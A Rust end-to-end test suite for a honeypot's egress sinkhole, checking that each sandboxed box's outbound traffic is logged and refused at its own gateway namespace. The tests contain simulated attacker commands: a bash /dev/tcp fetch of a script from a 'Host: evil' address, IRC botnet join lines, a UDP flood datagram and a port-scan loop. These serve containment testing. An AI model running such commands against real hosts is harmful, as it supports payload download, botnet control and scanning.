//! The box's network (`egress`): its own link to a gateway namespace of its own, every
//! connection logged there and refused, nothing routed anywhere, and the namespaces
//! gone with Hermes.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Command;
use std::time::{Duration, Instant};

use hermes_core::config::{EgressMode, RefusedAnswer};
use serde_json::Value;

use crate::client::{Client, ROOT_PROMPT, Shell, output_lines};
use crate::harness::{Hermes, Options};

fn sinkhole(refused: RefusedAnswer) -> Options {
    Options::default().configure(move |c| {
        c.egress.mode = EgressMode::Sinkhole;
        c.egress.refused = refused;
    })
}

/// This instance's gateway namespaces (`ip netns`), by name.
fn namespaces(hermes: &Hermes) -> Vec<String> {
    let prefix = format!("hermes-{}-", hermes.sensor);
    let mut names: Vec<String> = std::fs::read_dir("/run/netns")
        .map(|entries| {
            entries
                .filter_map(|e| e.ok()?.file_name().into_string().ok())
                .filter(|name| name.starts_with(&prefix))
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

fn namespace_of(hermes: &Hermes, container: &str) -> String {
    format!("hermes-{}-{}", hermes.sensor, &container[..12])
}

fn allocated(hermes: &Hermes) -> Vec<(String, String)> {
    hermes
        .events_of("hermes.container.allocate")
        .iter()
        .map(|e| {
            (
                e["session"].as_str().unwrap_or_default().to_owned(),
                e["container_id"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn connections(hermes: &Hermes) -> Vec<Value> {
    hermes.events_of("hermes.egress.connection")
}

fn connection_to(events: &[Value], ip: &str, port: u64) -> Option<Value> {
    events
        .iter()
        .find(|e| {
            e["eventid"] == "hermes.egress.connection" && e["dst_ip"] == ip && e["dst_port"] == port
        })
        .cloned()
}

fn wait_for_connection(hermes: &Hermes, ip: &str, port: u64) -> Value {
    let events = hermes.wait_for_events(&format!("a connection to {ip}:{port}"), |events| {
        connection_to(events, ip, port).is_some()
    });
    connection_to(&events, ip, port).unwrap_or_default()
}

fn ip_netns(name: &str, args: &[&str]) -> String {
    let output = Command::new("ip")
        .args(["-n", name])
        .args(args)
        .output()
        .expect("ip");
    assert!(output.status.success(), "ip -n {name} {args:?}: {output:?}");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A listener of the test's own on the host (every host address): nothing a box
/// sends may ever reach it.
struct HostWitness {
    listener: TcpListener,
}

impl HostWitness {
    fn new() -> Self {
        let listener = TcpListener::bind(("0.0.0.0", 0)).expect("bind witness");
        listener.set_nonblocking(true).expect("nonblocking");
        HostWitness { listener }
    }

    fn port(&self) -> u16 {
        self.listener.local_addr().expect("address").port()
    }

    #[track_caller]
    fn assert_untouched(&self) {
        match self.listener.accept() {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("something reached the host's listener: {other:?}"),
        }
    }
}

async fn run(shell: &mut Shell, command: &str) -> Vec<String> {
    let out = shell.run(command, ROOT_PROMPT).await;
    output_lines(&out)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_the_box_has_its_own_link_and_nothing_leaves() {
    require_docker!();
    let hermes = Hermes::start(sinkhole(RefusedAnswer::Drop));
    let witness = HostWitness::new();
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
    let (session, container) = allocated(&hermes).pop().expect("a container");

    // What the box sees: eth0 on 10.0.2.15/24 with a KVM MAC, a default route via
    // 10.0.2.2, Hermes's resolver, and nothing of Docker's networks.
    let links = run(&mut shell, "ls /sys/class/net | tr '\\n' ' '").await;
    assert_eq!(links[0].trim(), "eth0 lo", "{links:?}");
    let mac = run(&mut shell, "cat /sys/class/net/eth0/address").await;
    assert!(mac[0].starts_with("52:54:00:"), "{mac:?}");
    let addresses = run(&mut shell, "ip -4 -o addr show dev eth0").await;
    assert!(addresses[0].contains("inet 10.0.2.15/24"), "{addresses:?}");
    // /proc/net/route: destination 0 (default) through 10.0.2.2 (little-endian hex).
    let routes = run(
        &mut shell,
        "awk '$2 == \"00000000\" {print $1, $3}' /proc/net/route",
    )
    .await;
    assert_eq!(routes[0], "eth0 0202000A", "{routes:?}");
    let resolv = run(&mut shell, "grep -v '^#' /etc/resolv.conf").await;
    assert_eq!(resolv[0], "nameserver 10.0.2.3", "{resolv:?}");
    let docker = run(
        &mut shell,
        "cat /proc/net/fib_trie /etc/resolv.conf /etc/hosts | grep -c -e 127.0.0.11 -e '172\\.17\\.'",
    )
    .await;
    assert_eq!(docker[0], "0", "{docker:?}");
    // The box's own files, as on a server, not files the engine mounts over them.
    let mounted = run(
        &mut shell,
        "awk '$5 ~ /^\\/etc\\/(resolv.conf|hosts)$/' /proc/self/mountinfo | wc -l; echo $(stat -c %a /etc/resolv.conf /etc/hosts)",
    )
    .await;
    assert_eq!(mounted[0], "0", "{mounted:?}");
    assert_eq!(mounted[1], "644 644", "{mounted:?}");
    // Nothing names Hermes or the gateway namespace in the box's view of its link.
    let details = run(&mut shell, "ip -d link show eth0; ip a; ip r").await;
    assert!(
        !details.join("\n").to_lowercase().contains("hermes"),
        "{details:?}"
    );

    // The gateway namespace: only its link's own routes, no way out. Its one
    // default route makes every address local for the box's traffic (so that its
    // firewall answers for any destination); the box's own network is thrown back
    // to the link's route.
    let gateway = namespace_of(&hermes, &container);
    assert!(namespaces(&hermes).contains(&gateway));
    let gateway_routes = ip_netns(&gateway, &["-4", "route", "show", "table", "all"]);
    for line in gateway_routes.lines() {
        assert!(
            line.contains("dev gw0") || line.contains("dev lo") || line.starts_with("throw "),
            "a route off the box's link: {line}"
        );
        assert!(
            !line.contains("default") || line.starts_with("local default dev lo table 169"),
            "{gateway_routes}"
        );
    }
    // Hermes's listeners are there, and only there: TCP (the connections to the
    // ports it takes are redirected to it) and DNS on port 53.
    let listening = Command::new("ip")
        .args(["netns", "exec", &gateway, "ss", "-Hlntu"])
        .output()
        .expect("ss");
    let listening = String::from_utf8_lossy(&listening.stdout).into_owned();
    assert!(listening.contains("0.0.0.0:53 "), "{listening}");
    assert!(listening.contains("0.0.0.0:7 "), "{listening}");
    assert_eq!(listening.lines().count(), 2, "{listening}");
    // DNS to any address arrives at the resolver's socket there (the resolver
    // answers once it is plugged in; until then nothing does).
    run(
        &mut shell,
        "printf q > /dev/udp/8.8.8.8/53; printf q > /dev/udp/10.0.2.3/53",
    )
    .await;
    let counters = Command::new("ip")
        .args([
            "netns",
            "exec",
            &gateway,
            "iptables",
            "-t",
            "nat",
            "-L",
            "PREROUTING",
            "-v",
            "-n",
            "-x",
        ])
        .output()
        .expect("iptables");
    let counters = String::from_utf8_lossy(&counters.stdout).into_owned();
    let dns_packets: u64 = counters
        .lines()
        .find(|l| l.contains("udp dpt:53"))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{counters}"));
    assert!(dns_packets >= 2, "{counters}");
    let gateway_links = ip_netns(&gateway, &["-o", "link"]);
    assert_eq!(
        gateway_links.lines().count(),
        2,
        "lo and gw0 only: {gateway_links}"
    );

    // HTTP: logged with the first bytes, then left unanswered (the box times out).
    let out = run(
        &mut shell,
        "timeout 4 bash -c 'exec 3<>/dev/tcp/203.0.113.9/80; printf \"GET /x.sh HTTP/1.0\\r\\nHost: evil\\r\\n\\r\\n\" >&3; cat <&3'; echo rc=$?",
    )
    .await;
    assert!(out.iter().any(|l| l == "rc=124"), "timed out: {out:?}");
    let http = wait_for_connection(&hermes, "203.0.113.9", 80);
    assert_eq!(http["session"], session.as_str());
    assert_eq!(http["container_id"], container.as_str());
    assert_eq!(http["app_protocol"], "http");
    assert_eq!(http["answer"], "drop");
    assert_eq!(
        http["first_bytes"], "GET /x.sh HTTP/1.0\\r\\nHost: evil\\r\\n\\r\\n",
        "{http}"
    );

    // SSH and SMTP attempts: the firewall drops them (the connect itself times
    // out, as behind a real one), and each is logged with its destination.
    let out = run(
        &mut shell,
        "timeout 2 bash -c 'exec 3<>/dev/tcp/198.51.100.7/22'; echo ssh=$?; \
         timeout 2 bash -c 'exec 3<>/dev/tcp/198.51.100.8/25'; echo smtp=$?",
    )
    .await;
    assert!(out.iter().any(|l| l == "ssh=124"), "{out:?}");
    assert!(out.iter().any(|l| l == "smtp=124"), "{out:?}");
    for (ip, port, guess) in [("198.51.100.7", 22, "ssh"), ("198.51.100.8", 25, "smtp")] {
        let attempt = wait_for_connection(&hermes, ip, port);
        assert_eq!(attempt["app_protocol"], guess, "{attempt}");
        assert_eq!(attempt["transport"], "tcp", "{attempt}");
        assert_eq!(attempt["answer"], "drop", "{attempt}");
        assert_eq!(attempt["first_bytes"], "", "{attempt}");
        assert_eq!(attempt["session"], session.as_str());
    }
    // One log line per attempt, not per retransmitted SYN (two seconds is two).
    let ssh_attempts = connections(&hermes)
        .iter()
        .filter(|e| e["dst_ip"] == "198.51.100.7")
        .count();
    assert_eq!(ssh_attempts, 1);

    // IRC, on a port Hermes takes: the client's first words are logged, then it is
    // left unanswered.
    run(
        &mut shell,
        "timeout 2 bash -c 'exec 3<>/dev/tcp/198.51.100.9/6667; printf \"NICK x86_bot\\r\\nJOIN #dd0s\\r\\n\" >&3; sleep 5'",
    )
    .await;
    let irc = wait_for_connection(&hermes, "198.51.100.9", 6667);
    assert_eq!(irc["app_protocol"], "irc", "{irc}");
    assert_eq!(
        irc["first_bytes"], "NICK x86_bot\\r\\nJOIN #dd0s\\r\\n",
        "{irc}"
    );

    // A UDP datagram (a flood's first) is logged with its bytes; a ping of the
    // internet goes unanswered and is logged, the gateway answers its own.
    let out = run(
        &mut shell,
        "printf 'flood!' > /dev/udp/203.0.113.50/27015; \
         ping -c 1 -W 1 203.0.113.51 >/dev/null; echo far=$?; \
         ping -c 1 -W 2 10.0.2.2 >/dev/null; echo gateway=$?",
    )
    .await;
    assert!(out.iter().any(|l| l == "far=1"), "{out:?}");
    assert!(out.iter().any(|l| l == "gateway=0"), "{out:?}");
    let udp = wait_for_connection(&hermes, "203.0.113.50", 27015);
    assert_eq!(udp["transport"], "udp", "{udp}");
    assert_eq!(udp["first_bytes"], "flood!", "{udp}");
    let ping = wait_for_connection(&hermes, "203.0.113.51", 0);
    assert_eq!(ping["app_protocol"], "ping", "{ping}");
    assert!(connection_to(&connections(&hermes), "10.0.2.2", 0).is_none());
    witness.assert_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_reject_resets_and_two_boxes_are_apart() {
    require_docker!();
    let mut options = sinkhole(RefusedAnswer::Reject);
    options.pool_size = 2;
    options.metrics = true;
    let hermes = Hermes::start(options);
    let (_first_client, mut first) = crate::client::root_shell(hermes.port).await;
    let second_client =
        Client::login_from(hermes.port, [127, 0, 0, 2].into(), "root", "toor").await;
    let mut second = second_client.shell(200, 50).await;
    assert!(
        second
            .read_until(ROOT_PROMPT, 0, Duration::from_secs(20))
            .await
    );
    let boxes = allocated(&hermes);
    assert_eq!(boxes.len(), 2, "{boxes:?}");

    // Each box sees its own link only, with a MAC of its own.
    let mut macs = Vec::new();
    for shell in [&mut first, &mut second] {
        let links = run(shell, "ls /sys/class/net | tr '\\n' ' '").await;
        assert_eq!(links[0].trim(), "eth0 lo", "{links:?}");
        macs.push(run(shell, "cat /sys/class/net/eth0/address").await[0].clone());
    }
    assert_ne!(macs[0], macs[1]);

    // Refused: the connection is reset, at once, and logged for its own session.
    let started = Instant::now();
    let out = run(
        &mut first,
        "timeout 8 bash -c 'exec 3<>/dev/tcp/203.0.113.9/80; printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' 2>&1; echo rc=$?",
    )
    .await;
    assert!(started.elapsed() < Duration::from_secs(7), "{out:?}");
    assert!(
        out.iter().any(|l| l.contains("Connection reset by peer")),
        "{out:?}"
    );
    assert!(out.iter().any(|l| l == "rc=1"), "{out:?}");
    let refused = wait_for_connection(&hermes, "203.0.113.9", 80);
    let first_session = refused["session"].as_str().unwrap_or_default().to_owned();
    let (_, first_box) = boxes
        .iter()
        .find(|(session, _)| *session == first_session)
        .expect("the first box's session")
        .clone();
    assert_eq!(refused["answer"], "reject");
    assert_eq!(refused["container_id"], first_box.as_str());

    // The other box shares the address but not the link: a neighbour on the box's
    // network is never found (only the gateway answers on the link), and what the
    // second box sends off its network ends at its own gateway, for its own session.
    let out = run(
        &mut second,
        "timeout 5 bash -c 'exec 3<>/dev/tcp/10.0.2.16/22' 2>/dev/null; echo rc=$?",
    )
    .await;
    assert!(!out.iter().any(|l| l == "rc=0"), "{out:?}");
    run(
        &mut second,
        "timeout 3 bash -c 'exec 3<>/dev/tcp/192.0.2.77/22' 2>/dev/null",
    )
    .await;
    let elsewhere = wait_for_connection(&hermes, "192.0.2.77", 22);
    assert_ne!(elsewhere["session"], first_session.as_str());
    assert_ne!(elsewhere["container_id"], first_box.as_str());
    assert!(connection_to(&connections(&hermes), "10.0.2.16", 22).is_none());

    // A 1,000-port scan, the host's listener among the targets (Docker's bridge
    // address and the gateway's): every port refused at once, as a firewall's
    // REJECT does, each logged, and nothing reaches the host.
    let witness = HostWitness::new();
    let witness_port = u64::from(witness.port());
    let before = connections(&hermes).len();
    let started = Instant::now();
    let out = run(
        &mut second,
        &format!(
            "timeout 120 bash -c 'n=0; r=0; for p in $(seq 2000 2999) ; do if exec 3<>/dev/tcp/192.0.2.1/$p; then n=$((n+1)); else r=$((r+1)); fi 2>/dev/null; exec 3>&-; done; \
             for h in 172.17.0.1 10.0.2.2; do if exec 3<>/dev/tcp/$h/{witness_port}; then n=$((n+1)); else r=$((r+1)); fi 2>/dev/null; exec 3>&-; done; echo connected=$n refused=$r'"
        ),
    )
    .await;
    assert!(
        out.iter().any(|l| l == "connected=0 refused=1002"),
        "{out:?}"
    );
    let scanned = started.elapsed();
    let events = hermes.wait_for_events("the scan's 1,002 attempts", |events| {
        events
            .iter()
            .filter(|e| e["eventid"] == "hermes.egress.connection")
            .count()
            >= before + 1002
    });
    for port in [2000, 2500, 2999] {
        let attempt =
            connection_to(&events, "192.0.2.1", port).unwrap_or_else(|| panic!("port {port}"));
        assert_eq!(attempt["answer"], "reject");
    }
    assert!(connection_to(&events, "172.17.0.1", witness_port).is_some());
    assert!(connection_to(&events, "10.0.2.2", witness_port).is_some());
    witness.assert_untouched();
    eprintln!("1,002 refused connects took {scanned:?}");
    // The other session is unaffected: its shell answers at once, and its box's
    // gateway still takes and logs what it sends.
    let started = Instant::now();
    run(
        &mut first,
        "timeout 3 bash -c 'exec 3<>/dev/tcp/203.0.113.10/6667; printf \"NICK first\\r\\n\" >&3; sleep 1' 2>/dev/null",
    )
    .await;
    assert!(started.elapsed() < Duration::from_secs(10));
    let after = wait_for_connection(&hermes, "203.0.113.10", 6667);
    assert_eq!(after["session"], first_session.as_str());
    assert_eq!(after["first_bytes"], "NICK first\\r\\n", "{after}");
    let arp = run(
        &mut second,
        "awk 'NR > 1 && $3 == \"0x2\" {print $1}' /proc/net/arp | sort -u | tr '\\n' ' '",
    )
    .await;
    assert_eq!(
        arp[0].trim(),
        "10.0.2.2",
        "only the gateway is a neighbour: {arp:?}"
    );

    let port = hermes.metrics_port();
    let metrics = tokio::task::spawn_blocking(move || metrics_text(port))
        .await
        .expect("metrics");
    let rejected = metrics
        .lines()
        .find_map(|l| l.strip_prefix("hermes_egress_blocked_total{reason=\"reject\"} "))
        .and_then(|v| v.trim().parse::<u64>().ok())
        .unwrap_or_else(|| panic!("{metrics}"));
    assert!(rejected >= 2, "{metrics}");
}

/// `GET /metrics`, blocking.
fn metrics_text(port: u16) -> String {
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).expect("metrics");
    stream
        .set_read_timeout(Some(Duration::from_secs(15)))
        .expect("timeout");
    stream
        .write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        .expect("send");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).expect("read");
    answer
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_namespaces_go_with_hermes() {
    require_docker!();
    let mut options = sinkhole(RefusedAnswer::Drop);
    options.pool_size = 2;
    let mut hermes = Hermes::start(options);
    let first = namespaces(&hermes);
    assert_eq!(first.len(), 2, "one per ready box: {first:?}");
    let status = hermes.terminate();
    assert!(status.success(), "{status}");
    assert!(namespaces(&hermes).is_empty(), "{:?}", namespaces(&hermes));

    // Killed: its namespaces stay behind; the next start removes them (their
    // containers are stopped at start) and gives its own boxes new ones.
    hermes.start_again();
    let before_kill = namespaces(&hermes);
    assert_eq!(before_kill.len(), 2, "{before_kill:?}");
    hermes.kill_hard();
    assert_eq!(namespaces(&hermes), before_kill, "left behind by SIGKILL");
    hermes.start_again();
    let after = namespaces(&hermes);
    let running = hermes.containers(Some("running"));
    assert_eq!(after.len(), running.len(), "{after:?} {running:?}");
    for name in &after {
        assert!(!before_kill.contains(name), "leftover {name} kept");
        assert!(
            running.iter().any(|id| *name == namespace_of(&hermes, id)),
            "{name} has no running box"
        );
    }
    let status = hermes.terminate();
    assert!(status.success(), "{status}");
    assert!(namespaces(&hermes).is_empty(), "{:?}", namespaces(&hermes));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_a_returning_box_gets_its_network_again() {
    require_docker!();
    let mut options = sinkhole(RefusedAnswer::Drop);
    options.reuse = true;
    let hermes = Hermes::start(options);
    let (client, mut shell) = crate::client::root_shell(hermes.port).await;
    let (_, container) = allocated(&hermes).pop().expect("a container");
    let mac = run(&mut shell, "cat /sys/class/net/eth0/address").await[0].clone();
    shell.send("exit\n").await;
    assert!(shell.read_to_close(Duration::from_secs(20)).await);
    drop(shell);
    drop(client);
    // Stopped and kept: its gateway goes with it.
    let gateway = namespace_of(&hermes, &container);
    let deadline = Instant::now() + Duration::from_secs(30);
    while namespaces(&hermes).contains(&gateway) {
        assert!(Instant::now() < deadline, "the stopped box's gateway stays");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    // Back: the same box, started again, linked again (a new namespace of its own).
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
    hermes.wait_for("hermes.container.reuse");
    let (session, again) = allocated(&hermes).pop().expect("a container");
    assert_eq!(again, container);
    assert!(namespaces(&hermes).contains(&gateway));
    let links = run(&mut shell, "ls /sys/class/net | tr '\\n' ' '").await;
    assert_eq!(links[0].trim(), "eth0 lo", "{links:?}");
    let new_mac = run(&mut shell, "cat /sys/class/net/eth0/address").await[0].clone();
    assert!(new_mac.starts_with("52:54:00:"), "{new_mac} (was {mac})");
    run(
        &mut shell,
        "timeout 2 bash -c 'exec 3<>/dev/tcp/203.0.113.10/443' 2>/dev/null",
    )
    .await;
    let event = wait_for_connection(&hermes, "203.0.113.10", 443);
    assert_eq!(event["session"], session.as_str());
    assert_eq!(event["app_protocol"], "tls");
}

/// The millisecond field `field` of the log lines with `message`.
fn logged_ms(hermes: &Hermes, message: &str, field: &str) -> Vec<u64> {
    hermes
        .output()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["message"] == message)
        .filter_map(|v| {
            let value = &v[field];
            value
                .as_u64()
                .or_else(|| value.as_str().and_then(|s| s.parse().ok()))
        })
        .collect()
}

/// Pool refill time (container create and start to ready) with the box network and
/// without. A measurement, not a bound (timings on a shared machine are no test):
/// `cargo nextest run -p hermes --test e2e --run-ignored only egress_box_start_time`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a measurement: prints the figures, run on purpose"]
async fn egress_box_start_time_with_and_without_network() {
    require_docker!();
    const BOXES: u32 = 8;
    let mut medians = Vec::new();
    for mode in [EgressMode::Off, EgressMode::Sinkhole, EgressMode::Fetch] {
        let mut options = Options::default().configure(move |c| c.egress.mode = mode);
        options.pool_size = BOXES;
        let mut hermes = Hermes::start(options);
        let mut times = logged_ms(&hermes, "pool container ready", "create_ms");
        assert_eq!(times.len(), BOXES as usize, "{}", hermes.output());
        times.sort_unstable();
        let median = times[times.len() / 2];
        let mut attach = logged_ms(&hermes, "box network attached", "elapsed_ms");
        attach.sort_unstable();
        eprintln!(
            "egress {mode:?}: pool box create-to-ready ms {times:?}, median {median}; of which the network {attach:?}"
        );
        medians.push(median);
        assert!(hermes.terminate().success());
    }
    eprintln!(
        "the box network adds {} ms (sinkhole), {} ms (fetch, the default: its CA too), median",
        medians[1].saturating_sub(medians[0]),
        medians[2].saturating_sub(medians[0])
    );
}

/// A box holds at most `MAX_OPEN_PER_BOX` connections at the gateway (on a port it
/// takes, IRC's); the rest are reset at once (and logged); binary first bytes are
/// logged escaped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_a_box_holds_a_bounded_number_of_connections() {
    require_docker!();
    let hermes = Hermes::start(sinkhole(RefusedAnswer::Drop));
    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
    let limit = hermes_egress::MAX_OPEN_PER_BOX;
    let extra = 40;
    let out = run(
        &mut shell,
        &format!(
            "timeout 60 bash -c 'n=0; for i in $(seq 1 {}); do exec {{fd}}<>/dev/tcp/192.0.2.5/6667 && n=$((n+1)); done; echo opened=$n; sleep 4'",
            limit + extra
        ),
    )
    .await;
    assert!(
        out.iter()
            .any(|l| *l == format!("opened={}", limit + extra)),
        "{out:?}"
    );
    let events = hermes.wait_for_events("every held and refused connection", |events| {
        events
            .iter()
            .filter(|e| e["dst_port"] == 6667 && e["eventid"] == "hermes.egress.connection")
            .count()
            >= limit + extra
    });
    let answers = |answer: &str| {
        events
            .iter()
            .filter(|e| e["dst_port"] == 6667 && e["answer"] == answer)
            .count()
    };
    assert_eq!(answers("drop"), limit);
    assert_eq!(answers("box_connection_limit"), extra);

    run(
        &mut shell,
        "timeout 3 bash -c 'exec 3<>/dev/tcp/192.0.2.6/4444; printf \"\\x00\\x1b[31mhi\\n\" >&3; sleep 5'",
    )
    .await;
    let binary = wait_for_connection(&hermes, "192.0.2.6", 4444);
    assert_eq!(binary["first_bytes"], "\\x00\\x1b[31mhi\\n", "{binary}");
    assert_eq!(binary["app_protocol"], "stratum");
}
